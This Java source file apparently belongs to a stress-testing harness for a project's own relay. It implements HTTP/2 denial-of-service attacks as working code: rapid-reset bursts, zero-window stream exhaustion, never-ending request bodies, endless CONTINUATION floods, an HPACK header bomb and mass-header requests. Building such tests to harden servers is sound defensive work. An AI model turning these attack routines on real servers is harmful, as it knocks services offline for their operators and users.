package dev.twitchrelay.hostile;

import static dev.twitchrelay.hostile.Http2Frames.END_HEADERS;
import static dev.twitchrelay.hostile.Http2Frames.END_STREAM;
import static dev.twitchrelay.hostile.Http2Frames.block;
import static dev.twitchrelay.hostile.Http2Frames.header;
import static dev.twitchrelay.hostile.Http2Frames.join;

import dev.twitchrelay.hostile.Target.Door;
import java.io.IOException;
import java.time.Duration;
import java.util.Arrays;
import java.util.function.IntFunction;

/** Ways to attack over HTTP/2: over TLS, or in clear text where nobody agreed on it. */
final class Http2Ways {
    private static final int USUAL_WINDOW = 65_535;
    private static final int STREAMS = 100;
    private static final Duration ROUND = Duration.ofMillis(50);

    private Http2Ways() {}

    /** Stream ids of clients are odd and go up. */
    private static int stream(int number) {
        return 2 * number + 1;
    }

    private static HostileConnection opened(Assault assault, Door door, int window) throws IOException {
        HostileConnection connection = assault.connectHttp2(door);
        connection.send(Http2Frames.opening(window));
        return connection;
    }

    /** On so many connections, a hundred streams each whose answers may not even begin. */
    static Way closedWindows(Door door, int connections, String path) {
        return HttpWays.swarm(
                connections,
                Duration.ofMillis(500),
                assault -> {
                    HostileConnection connection = opened(assault, door, 0);
                    for (int i = 0; i < STREAMS; i++) {
                        connection.request(1, Http2Frames.get(stream(i), path));
                    }
                    return connection;
                },
                (connection, round) -> connection.send(Http2Frames.ping(round)));
    }

    /** On so many connections, a hundred requests each whose body gets a byte every round and never ends. */
    static Way unendedStreams(Door door, int connections, Duration round, String path) {
        return HttpWays.swarm(
                connections,
                round,
                assault -> {
                    HostileConnection connection = opened(assault, door, USUAL_WINDOW);
                    for (int i = 0; i < STREAMS; i++) {
                        connection.request(1, Http2Frames.headers(stream(i), END_HEADERS, block("POST", path)));
                    }
                    return connection;
                },
                (connection, turn) -> {
                    for (int i = 0; i < STREAMS; i++) {
                        connection.send(Http2Frames.data(stream(i), 0, new byte[] {'a'}));
                    }
                });
    }

    /**
     * So many connections send a burst of this every 50 ms and read nothing; one that the relay ends comes again in the next
     * round.
     *
     * @param burst by the number of the round, which begins anew with each connection
     */
    static Way flood(Door door, int connections, int requestsEach, IntFunction<byte[]> burst) {
        return HttpWays.swarm(
                connections,
                ROUND,
                assault -> opened(assault, door, USUAL_WINDOW),
                (connection, round) -> connection.request(requestsEach, burst.apply(round)));
    }

    /** Requests that are taken back in the same breath: 100 in a burst. */
    static Way rapidReset(Door door, int connections, String path) {
        return flood(door, connections, STREAMS, round -> {
            byte[][] all = new byte[2 * STREAMS][];
            for (int i = 0; i < STREAMS; i++) {
                int stream = stream(round * STREAMS + i);
                all[2 * i] = Http2Frames.get(stream, path);
                all[2 * i + 1] = Http2Frames.reset(stream);
            }
            return join(all);
        });
    }

    /** Frames that ask for an answer or for work but for no page: 100 in a burst. */
    static Way frames(Door door, int connections, byte[] frame) {
        byte[][] all = new byte[STREAMS][];
        Arrays.fill(all, frame);
        byte[] burst = join(all);
        return flood(door, connections, 0, round -> burst);
    }

    /** Data without content on one open stream: 100 frames in a burst. */
    static Way emptyData(Door door, int connections, String path) {
        byte[] open = Http2Frames.headers(1, END_HEADERS, block("POST", path));
        byte[][] all = new byte[STREAMS][];
        Arrays.fill(all, Http2Frames.data(1, 0, new byte[0]));
        byte[] burst = join(all);
        return flood(door, connections, 0, round -> round == 0 ? join(open, burst) : burst);
    }

    /** A header block that goes on and on, 10 kB in a burst. */
    static Way endlessHeaders(Door door, int connections) {
        byte[] more = header("x-more", "y".repeat(1_000));
        byte[] part = Http2Frames.continuation(1, 0, more);
        byte[] burst = join(part, part, part, part, part, part, part, part, part, part);
        byte[] begin = Http2Frames.headers(1, END_STREAM, block("GET", "/"));
        return flood(door, connections, 0, round -> round == 0 ? join(begin, burst) : burst);
    }

    /** Few bytes that are many headers: one of 4,000 bytes, named 12,000 times by a byte each. */
    static Way headerBomb(Door door, int connections) {
        byte[] bomb = join(
                block("GET", "/"),
                Http2Frames.rememberedHeader("bomb", "x".repeat(4_000)),
                Http2Frames.newestHeader(12_000));
        return flood(door, connections, 1, round -> Http2Frames.headers(stream(round), END_STREAM | END_HEADERS, bomb));
    }

    /** Thousands of small headers in one request. */
    static Way manyHeaders(Door door, int connections) {
        byte[][] parts = new byte[1_500][];
        parts[0] = block("GET", "/");
        for (int i = 1; i < parts.length; i++) {
            parts[i] = header("x" + i, "1");
        }
        byte[] all = join(parts);
        return flood(door, connections, 1, round -> Http2Frames.headers(stream(round), END_STREAM | END_HEADERS, all));
    }
}
